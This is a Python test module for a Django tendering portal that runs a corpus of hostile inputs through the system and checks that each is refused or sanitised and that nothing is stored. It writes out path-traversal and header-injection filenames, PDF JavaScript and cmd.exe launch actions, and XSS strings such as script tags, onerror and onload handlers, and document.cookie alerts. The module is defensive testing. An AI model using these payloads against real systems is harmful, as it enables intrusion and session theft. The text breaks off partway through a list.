"""The hostile input corpus (issue 10): hostile files, names, numbers, dates, request bodies and text, each refused
with its HTTP status, a stable code and a sentence in the user's language, and nothing stored; or made harmless:
names sanitised, text shown escaped in the portal and as text in the PDFs, and nothing fetched by the renderer.

Every table below is part of the corpus; test_the_corpus_size prints how many hostile inputs it tries."""

import html
import http.server
import io
import json
import threading
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import weasyprint
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from pypdf import PdfReader

from bids.content import attachments_unseal
from bids.models import Bid, BidAttachment, BidStatus, BidVersion
from documents.models import GeneratedDocument
from documents.renderer import render_html
from documents.services import document_render
from evaluation.models import ProviderRequest, QualityScore
from procurement.auditchain import verify_chain
from procurement.models import AuditEvent, ProviderOrganisation, User
from tenders.models import Question, Tender
from tenders.services import tender_approve, tender_close, tender_publish, tender_submit_for_approval
from tests.fixtures import factories
from tests.fixtures.documents import pypdf_text
from tests.fixtures.files import docx_bytes, image_bytes, pdf_bytes, stored_files
from tests.fixtures.hostile_files import (
    ELF,
    HTML_PAGE,
    PE,
    SHELL,
    SVG_SCRIPT,
    docx_bzip2_member,
    docx_duplicate_names,
    docx_stored_short,
    docx_truncated,
    docx_with_macros,
    docx_with_wrong_crc,
    lying_zip_bomb_docx,
    odt_with_basic_macros,
    pdf_flate_bomb,
    pdf_page_action,
    pdf_with,
    pdf_with_embedded_exe,
    zip_bomb_docx,
)
from tests.fixtures.payloads import tender_payload
from tests.fixtures.pdfs import (
    HOSTILE_PDFS,
    UNSAFE_LINKS,
    encrypted_pdf,
    pdf_deeply_nested,
    pdf_object_stream_bomb,
    pdf_truncated,
    pdf_unlisted_action,
    pdf_unlisted_action_after_a_delimiter,
    pdf_unlisted_action_after_nul,
    pdf_unlisted_action_packed,
)
from tests.fixtures.stages import full_content, open_bids, qualify_all, run_outbox, seat_panel, submitted_tender

CHUNK = 256 * 1024
MAX_FILE = 2 * 1024 * 1024
MAX_BID = 8 * 1024 * 1024


# --- the corpus of uploads ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Upload:
    """A hostile upload through the API: announced with this name (and size, unless the data's), then sent in
    chunks and completed; refused with `status` and `code` either at the announcement or at the completion."""

    name: str
    filename: Any
    make: Any = None  # bytes, or a function that makes them
    status: int = 400
    code: str = ""
    size: Any = None

    def data(self) -> bytes:
        return self.make() if callable(self.make) else (self.make or b"")


UPLOADS = [
    # oversized, and sizes that are not sizes
    Upload("file one byte over the limit", "iso.pdf", size=MAX_FILE + 1, code="file_too_large"),
    Upload("size of 10**30 bytes", "iso.pdf", size=10**30, code="file_too_large"),
    Upload("negative size", "liite.pdf", size=-1, code="invalid"),
    Upload("size of 5000 digits", "liite.pdf", size="9" * 5000, code="max_string_length"),
    Upload("size as a boolean", "liite.pdf", size=True, code="invalid"),
    Upload("size as a fraction", "liite.pdf", size=1.5, code="invalid"),
    # names
    Upload("name climbing out with ../", "../../etc/passwd.pdf", size=100, code="unsafe_filename"),
    Upload("name with NUL", "a\x00b.pdf", size=100, code="unsafe_filename"),
    Upload("Windows path", "..\\..\\windows\\win.ini.pdf", size=100, code="unsafe_filename"),
    Upload("file URL as a name", "file:///etc/passwd.pdf", size=100, code="unsafe_filename"),
    Upload("RTL override hiding .exe", "Tarjous\u202efdp.exe", size=100, code="unsupported_type"),
    Upload("double extension ending in .exe", "liite.pdf.exe", size=100, code="unsupported_type"),
    Upload("trailing dot", "liite.pdf.", size=100, code="unsupported_type"),
    Upload("nothing but invisible characters", "\u200b\u200f\ufeff\u202e", size=100, code="filename_required"),
    Upload("lone surrogate in the name", "\ud800.pdf", size=100, code="surrogate_characters_not_allowed"),
    Upload("name of 100 000 characters", "x" * 100_000 + ".pdf", size=100, code="filename_too_long"),
    Upload("name that is a list", ["a.pdf"], size=100, code="invalid"),
    # content
    Upload("ZIP bomb as DOCX: 1 GiB of zeros", "vastaus.docx", zip_bomb_docx, code="compression_bomb"),
    Upload("ZIP bomb as DOCX whose directory lies", "vastaus.docx", lying_zip_bomb_docx, code="compression_bomb"),
    Upload("DOCX member with a wrong CRC", "vastaus.docx", docx_with_wrong_crc, code="corrupt_file"),
    Upload("DOCX member shorter than declared", "vastaus.docx", docx_stored_short, code="corrupt_file"),
    Upload("DOCX member in bzip2", "vastaus.docx", docx_bzip2_member, code="corrupt_file"),
    Upload("DOCX with two entries of one name", "vastaus.docx", docx_duplicate_names, code="corrupt_file"),
    Upload("DOCX cut in half", "vastaus.docx", docx_truncated, code="corrupt_file"),
    Upload("DOCX with a VBA project", "vastaus.docx", docx_with_macros, code="active_content"),
    Upload("ODT with Basic macros", "vastaus.odt", odt_with_basic_macros, code="active_content"),
    Upload(
        "PDF with JavaScript on opening",
        "skripti.pdf",
        lambda: pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
        code="active_content",
    ),
    Upload(
        "PDF with an action on closing",
        "sulje.pdf",
        lambda: pdf_with(b"/AA << /WC << /S /JavaScript /JS (this.submitForm()) >> >> "),
        code="active_content",
    ),
    Upload("PDF with a JavaScript name tree", "nimet.pdf", pdf_page_action, code="active_content"),
    Upload(
        "PDF launching a program",
        "ohjelma.pdf",
        lambda: pdf_with(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> "),
        code="active_content",
    ),
    Upload("PDF with an embedded .exe", "paketti.pdf", pdf_with_embedded_exe, code="active_content"),
    Upload("PDF with a 1 GiB Flate stream", "pommi.pdf", pdf_flate_bomb, code="compression_bomb"),
    # read by a PDF parser (issue 17): every object, wherever it is packed, and nothing it cannot read whole
    *(Upload(f"PDF with {what}", "liite.pdf", make, code="active_content") for what, make in HOSTILE_PDFS),
    Upload("PDF cut short", "katkennut.pdf", pdf_truncated, code="corrupt_file"),
    Upload(
        "PDF with an object left out of its cross-reference",
        "piilo.pdf",
        pdf_unlisted_action,
        code="uninspectable_file",
    ),
    *(
        Upload(
            f"PDF with an object left out of its cross-reference, {how}", "piilo.pdf", make, code="uninspectable_file"
        )
        for how, make in (
            ("its header after NUL", pdf_unlisted_action_after_nul),
            ("its header after >>", pdf_unlisted_action_after_a_delimiter),
            ("packed in an object stream", pdf_unlisted_action_packed),
        )
    ),
    *(Upload(f"PDF with {what}", "linkki.pdf", make, code="unsafe_link") for what, make in UNSAFE_LINKS),
    Upload("PDF nested 150 deep", "syva.pdf", pdf_deeply_nested, code="uninspectable_file"),
    Upload("PDF whose object stream unpacks to 30 MB", "pommi2.pdf", pdf_object_stream_bomb, code="compression_bomb"),
    Upload("PDF encrypted without a password to open", "salattu.pdf", lambda: encrypted_pdf(""), code="encrypted_file"),
    Upload("ELF executable renamed .pdf", "ohjelma.pdf", ELF, code="unsupported_type"),
    Upload("PE executable renamed .docx", "ohjelma.docx", PE, code="unsupported_type"),
    Upload("self-extracting archive named .docx", "paketti.docx", lambda: PE + docx_bytes(), code="unsupported_type"),
    Upload("shell script renamed .pdf", "skripti.pdf", SHELL, code="unsupported_type"),
    Upload("HTML page renamed .pdf", "sivu.pdf", HTML_PAGE, code="unsupported_type"),
    Upload("SVG with a script renamed .png", "kuva.png", SVG_SCRIPT, code="unsupported_type"),
    Upload("PNG named .jpg", "kuva.jpg", lambda: image_bytes("PNG"), code="content_mismatch"),
    Upload("PDF named .docx", "vastaus.docx", pdf_bytes, code="content_mismatch"),
]

# Names that are not refused but made harmless: (name as sent, name as stored and shown).
SANITISED_NAMES = [
    ("a\nb.pdf", "ab.pdf"),
    ("liite\r\n.pdf", "liite.pdf"),
    ("\u202egnp.pdf", "gnp.pdf"),
    ("\ufeffliite\u200b.pdf", "liite.pdf"),
    ("\u2028liite\u2029.pdf", "liite.pdf"),
    ("  liite.pdf\t", "liite.pdf"),
    ("A\u0308iti.pdf", "\u00c4iti.pdf"),
    ("%2e%2e%2fpasswd.pdf", "%2e%2e%2fpasswd.pdf"),
    ('tarjous";filename=evil.exe;.pdf', 'tarjous";filename=evil.exe;.pdf'),
]


# --- fixtures and steps -------------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def storage(settings, tmp_path) -> Path:
    """Limits a test can reach, and storage and upload folders of the test's own whose every file can be seen."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    uploads = tmp_path / "uploads"
    uploads.mkdir()
    settings.FILE_UPLOAD_TEMP_DIR = str(uploads)
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024  # every portal upload goes through a temporary file
    settings.HANKINTA = {
        **settings.HANKINTA,
        "ATTACHMENT_CHUNK_BYTES": CHUNK,
        "ATTACHMENT_MAX_BYTES": MAX_FILE,
        "BID_ATTACHMENTS_MAX_BYTES": MAX_BID,
    }
    return tmp_path


def attachments_url(bid_id) -> str:
    return f"/api/v1/bids/{bid_id}/attachments/"


def upload(client, bid_id, filename, data: bytes, size=None):
    """Announce, send the chunks, complete: the first answer that is not a success, or the completion's."""
    started = _json(
        client, attachments_url(bid_id), {"filename": filename, "size": len(data) if size is None else size}
    )
    if started.status_code != 201:
        return started
    attachment = started.json()["id"]
    for number, offset in enumerate(range(0, len(data), CHUNK)):
        sent = client.put(
            f"{attachments_url(bid_id)}{attachment}/chunks/{number}/",
            data[offset : offset + CHUNK],
            content_type="application/octet-stream",
        )
        if sent.status_code != 200:
            return sent
    return client.post(f"{attachments_url(bid_id)}{attachment}/complete/")


def problems(body) -> list[tuple[str, str]]:
    """Every (code, message) of an error answer: its own, and those of its fields however deeply nested."""
    found = []
    if isinstance(body, dict):
        if isinstance(body.get("code"), str):
            found.append((body["code"], str(body.get("detail", body.get("message", "")))))
        for key, value in body.items():
            if key not in ("code", "detail", "message"):
                found += problems(value)
    elif isinstance(body, list):
        for item in body:
            found += problems(item)
    return found


def assert_refused(response, status: int, code: str) -> None:
    """The status, the stable code (its own or a field's), and a sentence for people with it."""
    assert response.status_code == status, response.content[:600]
    assert response["Content-Type"].startswith("application/json"), response.content[:300]
    body = response.json()
    assert body["detail"].strip(), body
    messages = [message for found, message in problems(body) if found == code]
    assert messages, f"{code} not in {body}"
    assert all(message.strip() and message != code for message in messages), body


def chain_is_intact() -> bool:
    report = verify_chain()
    return report.intact and report.length == AuditEvent.objects.count()


# --- uploads: refused, nothing kept ---------------------------------------------------------------------------------


@pytest.mark.parametrize("case", UPLOADS, ids=[case.name for case in UPLOADS])
def test_hostile_uploads_are_refused_and_leave_nothing(
    case, bid, member_a, client_for, storage, django_capture_on_commit_callbacks
):
    # when the hostile file is announced, sent and completed
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(client_for(member_a), bid.pk, case.filename, case.data(), size=case.size)

    # then it is refused with its reason, in a sentence, and nothing of it remains: no row, no chunk, no temp file
    assert_refused(response, case.status, case.code)
    assert not BidAttachment.objects.exists()
    assert stored_files(storage / "media") == []
    assert stored_files(storage / "uploads") == []
    # a refusal of the content is on record, and the audit chain is whole
    if case.make is not None:
        assert AuditEvent.objects.filter(action="attachment.refuse", outcome="denied", detail__code=case.code).exists()
    assert chain_is_intact()


@pytest.mark.parametrize(("sent", "stored"), SANITISED_NAMES)
def test_hostile_file_names_are_sanitised_and_never_reach_a_path_or_a_header(
    sent, stored, bid, member_a, client_for, storage
):
    client = client_for(member_a)

    response = upload(client, bid.pk, sent, pdf_bytes())

    assert response.status_code == 200, response.content
    assert response.json()["filename"] == stored
    # the stored chunks are named by the attachment's id, never by the name the provider gave
    for path in stored_files(storage / "media"):
        assert stored not in str(path.relative_to(storage)) and "passwd" not in str(path)
    # the download's header carries the name as one quoted ASCII value and an encoded UTF-8 one, nothing more
    downloaded = client.get(f"{attachments_url(bid.pk)}{response.json()['id']}/download/")
    disposition = downloaded["Content-Disposition"]
    assert not any(ch in disposition for ch in "\r\n\x00")
    assert disposition.count('"') == 2 and disposition.count(";") == 2, disposition
    assert downloaded["X-Content-Type-Options"] == "nosniff"


def test_a_pdf_that_is_also_a_web_page_is_served_so_that_no_browser_runs_it(bid, member_a, client_for):
    # a polyglot: a valid PDF header and no actions, but HTML with a script after it
    client = client_for(member_a)
    polyglot = pdf_bytes() + b"<html><script>alert(document.cookie)</script></html>"

    response = upload(client, bid.pk, "liite.pdf", polyglot)

    assert response.status_code == 200, response.content
    downloaded = client.get(f"{attachments_url(bid.pk)}{response.json()['id']}/download/")
    assert downloaded["Content-Type"] == "application/pdf"
    assert downloaded["Content-Disposition"].startswith("attachment;")
    assert downloaded["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in downloaded["Content-Security-Policy"]


# The portal's upload without script: one multipart request, through a temporary file.
PORTAL_UPLOADS = [
    ("file one byte over the limit", "iso.pdf", lambda: pdf_bytes() + bytes(MAX_FILE + 1 - len(pdf_bytes()))),
    ("ZIP bomb as DOCX", "vastaus.docx", zip_bomb_docx),
    ("ELF executable renamed .pdf", "ohjelma.pdf", lambda: ELF),
    ("PDF with JavaScript", "skripti.pdf", lambda: pdf_with(b"/OpenAction << /S /JavaScript /JS (x) >> ")),
]


@pytest.mark.parametrize(("name", "filename", "make"), PORTAL_UPLOADS, ids=[row[0] for row in PORTAL_UPLOADS])
def test_hostile_uploads_through_the_portal_are_refused_and_leave_nothing(
    name, filename, make, bid, member_a, storage, django_capture_on_commit_callbacks
):
    browser = Client()
    browser.force_login(member_a)

    with django_capture_on_commit_callbacks(execute=True):
        response = browser.post(
            f"/bids/{bid.pk}/attachments/", {"file": SimpleUploadedFile(filename, make()), "purpose": "other"}
        )

    # back to the bid with the reason shown, and nothing kept: no row, no chunk, no temporary file
    assert response.status_code == 302 and response["Location"] == f"/bids/{bid.pk}/"
    errors = [str(m) for m in get_messages(response.wsgi_request) if m.level_tag == "error"]
    assert len(errors) == 1 and errors[0].strip()
    assert not BidAttachment.objects.exists()
    assert stored_files(storage / "media") == []
    assert stored_files(storage / "uploads") == []
    assert chain_is_intact()


def test_a_path_in_a_portal_upload_name_is_dropped(bid, member_a, storage):
    browser = Client()
    browser.force_login(member_a)

    response = browser.post(
        f"/bids/{bid.pk}/attachments/",
        {"file": SimpleUploadedFile("../../etc/passwd.pdf", pdf_bytes()), "purpose": "other"},
    )

    assert response.status_code == 302
    stored = BidAttachment.objects.get()
    assert attachments_unseal(bid.tender_id, [stored])[0].filename == "passwd.pdf"
    assert not (storage / "etc").exists()
    assert stored_files(storage / "uploads") == []


# --- numbers, dates and bodies in the API -----------------------------------------------------------------------


@dataclass(frozen=True)
class Field:
    """A hostile value put into one place of an API request; `raw` values are JSON text as sent, not strings."""

    name: str
    target: str
    value: Any
    status: int = 400
    code: str = "invalid"
    raw: bool = False
    extra: dict = field(default_factory=dict)


FIELDS = [
    # prices of a bid
    Field("price of 5000 digits", "unit_price", "9" * 5000, code="max_string_length"),
    Field("price 1e999999", "unit_price", "1e999999", code="max_digits"),
    Field("price 1e-999999", "unit_price", "1e-999999", code="max_digits"),
    Field("price NaN", "unit_price", "NaN"),
    Field("price Infinity", "unit_price", "Infinity"),
    Field("price -Infinity", "unit_price", "-Infinity"),
    Field("negative price", "unit_price", "-1", code="min_value"),
    Field("price -0", "unit_price", "-0", code="min_value"),
    Field("price in hexadecimal", "unit_price", "0x10"),
    Field("price as the JSON literal 1e999999", "unit_price", "1e999999", raw=True),
    Field("price as the JSON literal NaN", "unit_price", "NaN", raw=True, code="parse_error"),
    Field("price as the JSON literal Infinity", "unit_price", "Infinity", raw=True, code="parse_error"),
    Field("price as a JSON integer of 5000 digits", "unit_price", "9" * 5000, raw=True, code="parse_error"),
    Field("VAT rate NaN", "vat_rate", "NaN"),
    Field("VAT rate of 5000 digits", "vat_rate", "9" * 5000, code="max_string_length"),
    Field("lot id 10**30", "lot", str(10**30), raw=True, code="unknown_lot"),
    Field("lot id of 5000 digits", "lot", "9" * 5000, raw=True, code="parse_error"),
    Field("lot id -0", "lot", "-0", raw=True, code="unknown_lot"),
    Field("call id 1e999999", "tender", "1e999999", raw=True),
    Field("call id 10**30", "tender", str(10**30), raw=True, status=404, code="not_found"),
    Field("NUL in an exclusion ground", "ground", "a\x00b", code="unknown_ground"),
    # request bodies
    Field("JSON nested 100 000 deep", "body", "[" * 100_000 + "]" * 100_000, code="parse_error"),
    Field("JSON body over the size limit", "body", '{"x": "' + "a" * 3_000_000 + '"}', 413, "request_too_large"),
    Field("body that is not UTF-8", "body", b"\xff\xfe{\x00", code="parse_error"),
    Field(
        "JSON of a lone surrogate", "body", '{"tender": 1, "contact": {"name": "\\ud800"}}', code="unsafe_characters"
    ),
    # calls
    Field("deadline in the year 10000", "submission_deadline", "10000-01-01T12:00:00+02:00"),
    Field("deadline +10000-01-01", "submission_deadline", "+10000-01-01T12:00:00Z"),
    Field("deadline 0000-00-00", "submission_deadline", "0000-00-00"),
    Field("deadline in the year 0", "submission_deadline", "0000-01-01T00:00:00Z"),
    Field("deadline past 9999 in UTC", "submission_deadline", "9999-12-31T23:59:59-14:00", code="overflow"),
    Field("deadline before year 1 in UTC", "questions_deadline", "0001-01-01T00:00:00+14:00", code="overflow"),
    Field("date of 10 000 characters", "submission_deadline", "2030-" + "1" * 10_000),
    Field("30 February", "submission_deadline", "2030-02-30T10:00"),
    Field("offset of 99 hours", "submission_deadline", "2030-01-01T10:00:00+99:00"),
    Field("deadline as a number", "submission_deadline", 1e308),
    Field("estimated value of 5000 digits", "estimated_value", "9" * 5000, code="max_string_length"),
    Field("estimated value 1e999999", "estimated_value", "1e999999", code="max_digits"),
    Field("estimated value NaN", "estimated_value", "NaN"),
    Field("estimated value -0", "estimated_value", "-0", code="min_value"),
    Field("price weight Infinity", "price_weight", "Infinity"),
    Field("students 10**30", "students", str(10**30), raw=True, code="max_value"),
    Field("students 1e999999", "students", "1e999999", raw=True),
    Field("students -0", "students", "-0", raw=True, code="min_value"),
    Field("lot number of 5000 digits", "lot_number", "9" * 5000, code="max_string_length"),
    Field("validity of 10**30 months", "tender_validity_months", 10**30, code="max_value"),
    # answers, attachments and submissions
    Field("answers' new deadline in the year 10000", "new_deadline", "10000-01-01T00:00:00Z"),
    Field("NUL in the Idempotency-Key", "idempotency_key", "a\x00b", code="invalid_idempotency_key"),
    Field("zero-width space in the Idempotency-Key", "idempotency_key", "a\u200bb", code="invalid_idempotency_key"),
    # lists: bounded, never a number that the database refuses
    Field("page size 10**30", "limit", str(10**30), status=200, code=""),
    Field("page offset 10**30", "offset", str(10**30), status=200, code=""),
]


def _with_literal(payload: dict, placeholder: str, literal: str) -> str:
    text = json.dumps(payload)
    assert text.count(f'"{placeholder}"') == 1
    return text.replace(f'"{placeholder}"', literal)


def send(case: Field, *, provider, officer, tender, authority):
    """The request that carries the hostile value to its place."""
    value = case.value
    placeholder = "@@HOSTILE@@"
    put = placeholder if case.raw else value
    content = full_content(tender)
    if case.target in ("unit_price", "vat_rate", "lot"):
        content["lot_offers"][0][case.target] = put
    if case.target == "ground":
        content["exclusion_declaration"][value] = False
    if case.target in ("unit_price", "vat_rate", "lot", "ground", "tender"):
        body = {"tender": put if case.target == "tender" else tender.pk, **content}
        if case.raw:
            return provider.post(
                "/api/v1/bids/", _with_literal(body, placeholder, value), content_type="application/json"
            )
        return provider.post("/api/v1/bids/", body, format="json")
    if case.target == "body":
        return provider.generic("POST", "/api/v1/bids/", value, content_type="application/json")
    if case.target in ("students", "lot_number"):
        lot = {"number": 1, "title": "Kuopio", "students": 20}
        lot["students" if case.target == "students" else "number"] = put
        body = tender_payload(authority, lots=[lot])
        if case.raw:
            return officer.post(
                "/api/v1/tenders/", _with_literal(body, placeholder, value), content_type="application/json"
            )
        return officer.post("/api/v1/tenders/", body, format="json")
    if case.target == "new_deadline":
        return officer.post(f"/api/v1/tenders/{tender.pk}/answers/publish/", {"new_deadline": value}, format="json")
    if case.target == "idempotency_key":
        bid = provider.post("/api/v1/bids/", {"tender": tender.pk, **content}, format="json").json()
        return provider.post(f"/api/v1/bids/{bid['id']}/submit/", HTTP_IDEMPOTENCY_KEY=value)
    if case.target in ("limit", "offset"):
        return provider.get(f"/api/v1/tenders/?{case.target}={value}")
    return officer.post("/api/v1/tenders/", tender_payload(authority, **{case.target: value}), format="json")


def stored_counts() -> dict[str, int]:
    return {
        model.__name__: model.objects.count()
        for model in (Tender, Bid, BidVersion, BidAttachment, Question, QualityScore, ProviderRequest)
    }


@pytest.mark.parametrize("case", FIELDS, ids=[case.name for case in FIELDS])
def test_hostile_numbers_dates_and_bodies_are_refused_never_a_500(
    case, authority, officer, member_a, open_tender, client_for
):
    provider, authority_client = client_for(member_a), client_for(officer)
    for client in (provider, authority_client):
        client.raise_request_exception = False  # a 500 is an answer to assert on, not an exception here
    before = stored_counts()

    response = send(case, provider=provider, officer=authority_client, tender=open_tender, authority=authority)

    if case.status == 200:
        assert response.status_code == 200, response.content[:300]
        return
    assert_refused(response, case.status, case.code)
    after = stored_counts()
    if case.target == "idempotency_key":
        before["Bid"] += 1  # the draft that the refused submission was for
    assert after == before
    assert chain_is_intact()


OPENED_FIELDS = [
    Field("points of 5000 digits", "points", "9" * 5000, code="max_string_length"),
    Field("points 1e999999", "points", "1e999999", code="max_digits"),
    Field("points NaN", "points", "NaN"),
    Field("points Infinity", "points", "Infinity"),
    Field("negative points", "points", "-1", code="min_value"),
    Field("points over the maximum", "points", "1000", code="points_over_max"),
    Field("points as the JSON literal 1e999999", "points", "1e999999", raw=True),
    Field("criterion id 10**30", "criterion", 10**30, code="unknown_criterion"),
    Field("request deadline in the year 10000", "deadline", "10000-01-01T00:00:00Z"),
    Field("request deadline 0000-00-00", "deadline", "0000-00-00"),
    Field("request deadline in the past", "deadline", "2000-01-01T00:00:00Z", code="deadline_in_past"),
]


def test_hostile_scores_and_request_deadlines_on_an_opened_call_are_refused(authority, officer, member_a, client_for):
    # given an opened call whose bid has passed the qualification (set up once: it takes a while)
    tender = submitted_tender(bidders=[(member_a, "9000")], authority=authority)
    tender_close(actor=officer, tender_id=tender.pk)
    seat_panel(tender, officer)
    open_bids(tender, officer)
    qualify_all(tender, officer)
    bid = tender.bids.get()
    score = {
        "lot_offer": bid.lot_offers.order_by("pk").first().pk,
        "criterion": tender.criteria.order_by("number").first().pk,
        "points": "5",
        "reason": "Perusteltu.",
    }
    request = {"bid": bid.pk, "kind": "clarification", "message": "Tarkentakaa.", "deadline": "2099-01-01T12:00"}
    client = client_for(officer)
    client.raise_request_exception = False
    wrong = []

    for case in OPENED_FIELDS:
        before = stored_counts()
        if case.target == "deadline":
            response = client.post(
                f"/api/v1/tenders/{tender.pk}/requests/", {**request, "deadline": case.value}, format="json"
            )
        elif case.raw:
            body = _with_literal({"scores": [{**score, case.target: "@@HOSTILE@@"}]}, "@@HOSTILE@@", case.value)
            response = client.post(f"/api/v1/tenders/{tender.pk}/scores/", body, content_type="application/json")
        else:
            response = client.post(
                f"/api/v1/tenders/{tender.pk}/scores/", {"scores": [{**score, case.target: case.value}]}, format="json"
            )
        try:
            assert_refused(response, case.status, case.code)
            assert stored_counts() == before
        except AssertionError as failure:
            wrong.append(f"{case.name}: {failure}")

    assert wrong == []
    # the same requests with sane values do go through: the refusals above were for the hostile values
    assert client.post(f"/api/v1/tenders/{tender.pk}/scores/", {"scores": [score]}, format="json").status_code == 200
    assert client.post(f"/api/v1/tenders/{tender.pk}/requests/", request, format="json").status_code == 201
    assert chain_is_intact()


def test_refusals_are_in_the_users_language(open_tender, member_a, client_for, bid):
    client = client_for(member_a)
    hostile = {
        "unsafe_filename": lambda **h: client.post(
            attachments_url(bid.pk), {"filename": "../x.pdf", "size": 10}, format="json", **h
        ),
        "max_string_length": lambda **h: client.post(
            "/api/v1/bids/",
            {"tender": open_tender.pk, "lot_offers": [{"lot": 1, "unit_price": "9" * 5000}]},
            format="json",
            **h,
        ),
        "request_too_large": lambda **h: client.generic(
            "POST", "/api/v1/bids/", "[" + " " * 3_000_000 + "]", content_type="application/json", **h
        ),
    }
    for code, request in hostile.items():
        sentences = {}
        for language in ("fi", "sv", "en"):
            response = request(HTTP_ACCEPT_LANGUAGE=language)
            sentences[language] = [message for found, message in problems(response.json()) if found == code]
        assert all(sentences.values()), sentences
        if code != "request_too_large":  # new in this change: translated when the catalogues are next compiled
            assert len({tuple(s) for s in sentences.values()}) == 3, sentences


# --- names: refused when they spoof, normalised when they only carry invisible characters -------------------------

NAMES = [
    # (what, name as sent, name as stored, or None when refused with the code)
    ("RTL override", "\u202eYO subolK", None, "unsafe_characters"),
    ("LTR embedding", "\u202aKoulutus Oy\u202c", None, "unsafe_characters"),
    ("bidi isolate", "\u2067Koulutus\u2069 Oy", None, "unsafe_characters"),
    ("NUL", "Koulutus\x00 Oy", None, "unsafe_characters"),
    ("bell", "Kou\x07lutus Oy", None, "unsafe_characters"),
    ("line break", "Koulutus\nOy", None, "unsafe_characters"),
    ("line separator", "Koulutus\u2028Oy", None, "unsafe_characters"),
    ("letter under six accents", "Koulutus O" + "\u0301" * 6 + "y", None, "unsafe_characters"),
    ("lone surrogate", "Koulutus \ud800 Oy", None, "unsafe_characters"),
    ("only invisible characters", "\u200b\u200f\ufeff", None, "blank"),
    ("201 characters", "K" * 201, None, "max_length"),
    ("zero-width space", "Koulutus\u200b Oy", "Koulutus Oy", ""),
    ("byte-order mark", "\ufeffKoulutus Oy", "Koulutus Oy", ""),
    ("RTL mark", "Koulutus Oy\u200f", "Koulutus Oy", ""),
    ("soft hyphen", "Kou\u00adlutus Oy", "Koulutus Oy", ""),
    ("combining diaeresis", "Osuuskunta Tyo\u0308", "Osuuskunta Ty\u00f6", ""),
    ("200 characters and invisible ones", "K" * 200 + "\u200b" * 5, "K" * 200, ""),
    ("Arabic name", "\u0645\u0631\u0643\u0632 \u0627\u0644\u062a\u062f\u0631\u064a\u0628", None, ""),
    ("HTML", "<b>Koulutus</b> & Co", "<b>Koulutus</b> & Co", ""),
]


def _registration(name: str, n: int, *, person: str = "Maija") -> dict:
    return {
        "organisation": {"name": name, "business_id": factories._business_id(9000 + n), "email": "org@x.example"},
        "admin": {
            "username": f"hostile{n}",
            "password": "Pitka-ja-vahva-salasana-2026",
            "email": "admin@x.example",
            "first_name": person,
            "last_name": "Meikäläinen",
        },
    }


def _json(client, url, body):
    """JSON as text, so that a lone surrogate travels as the escape a client would send."""
    return client.generic("POST", url, json.dumps(body), content_type="application/json")


@pytest.mark.parametrize(("what", "sent", "stored", "code"), NAMES, ids=[row[0] for row in NAMES])
def test_hostile_names_of_organisations_people_and_contacts(
    what, sent, stored, code, open_tender, member_a, client_for, db
):
    anonymous = client_for()
    index = [row[0] for row in NAMES].index(what)
    expected = sent if stored is None and not code else stored
    before = {"providers": ProviderOrganisation.objects.count(), "users": User.objects.count()}

    # the organisation's name, and the first name of its administrator, when it registers
    organisation = _json(anonymous, "/api/v1/providers/register/", _registration(sent, 2 * index))
    person = _json(
        anonymous, "/api/v1/providers/register/", _registration("Koulutus Oy", 2 * index + 1, person=sent[:150])
    )
    # the contact person of a bid
    content = {**full_content(open_tender), "contact": {"name": sent, "email": "a@x.example"}}
    contact = _json(client_for(member_a), "/api/v1/bids/", {"tender": open_tender.pk, **content})

    if code:
        assert_refused(organisation, 400, code)
        assert_refused(contact, 400, code)
        # a first name may be left out, and may be 150 characters (this one was cut to that)
        person_passes = code in ("blank", "max_length")
        if person_passes:
            assert person.status_code == 201, person.content
        else:
            assert_refused(person, 400, code)
        assert ProviderOrganisation.objects.count() == before["providers"] + person_passes
        assert User.objects.count() == before["users"] + person_passes
        assert not Bid.objects.exists()
    else:
        assert organisation.status_code == 201, organisation.content
        assert organisation.json()["name"] == expected
        assert person.status_code == 201, person.content
        assert User.objects.get(username=f"hostile{2 * index + 1}").first_name == expected[:150]
        assert contact.status_code == 201, contact.content
        assert contact.json()["content"]["contact"]["name"] == expected
    assert chain_is_intact()


@pytest.mark.parametrize(
    ("sent", "stored"),
    [("\u202eYO subolK", None), ("Koulutus\u200b Oy\u200f", "Koulutus Oy"), ("Kou\tlutus", None)],
)
def test_the_portals_registration_form_treats_names_alike(sent, stored, db):
    browser = Client()
    form = {
        "name": sent,
        "business_id": factories._business_id(9900),
        "email": "org@x.example",
        "preferred_language": "fi",
        "username": "portaali",
        "first_name": "Maija",
        "last_name": "Meikäläinen",
        "admin_email": "admin@x.example",
        "password": "Pitka-ja-vahva-salasana-2026",
    }

    response = browser.post("/register/", form)

    if stored is None:
        assert response.status_code == 400
        assert response.context["form"].errors.as_data()["name"][0].code == "unsafe_characters"
        assert not ProviderOrganisation.objects.exists()
    else:
        assert response.status_code == 302
        assert ProviderOrganisation.objects.get().name == stored


# --- HTML and script in every text field: escaped in the portal, text in the PDFs ---------------------------------


def payload(tag: str) -> str:
    return f'{tag}:<script>alert(1)</script><img src=x onerror=alert(1)>"><svg onload=alert(1)>'


FILENAME = '"><img src=x onerror=alert(1)><svg onload=alert(1)>.pdf'  # a file name cannot hold "</script>"
TEXT_FIELDS = [
    # (field, where it is typed in, the portal pages that show it, the PDFs that show it)
    ("title", "officer, API", ["call"], ["call"]),
    ("description", "officer, API", ["call"], ["call"]),
    ("lot", "officer, API", ["call"], ["call"]),  # the receipt does not name the lots offered: they are sealed
    ("place", "officer, API", ["call"], ["call"]),
    ("criterion", "officer, API", ["call", "scores"], ["call"]),
    ("guidance", "officer, API", ["call"], []),
    ("requirement", "officer, API", ["call"], []),
    ("question", "provider, API", ["call", "questions"], []),
    ("answer", "officer, API", ["call"], []),
    ("provider", "provider, API registration", ["organisation", "scores"], ["receipt"]),
    ("first", "provider, API registration", ["organisation"], ["receipt"]),
    ("last", "provider, API registration", ["organisation"], ["receipt"]),
    ("quality", "provider, API bid", ["bid", "scores"], []),
    ("evidence", "provider, API bid", ["bid"], []),
    ("contact", "provider, API bid", ["bid"], []),
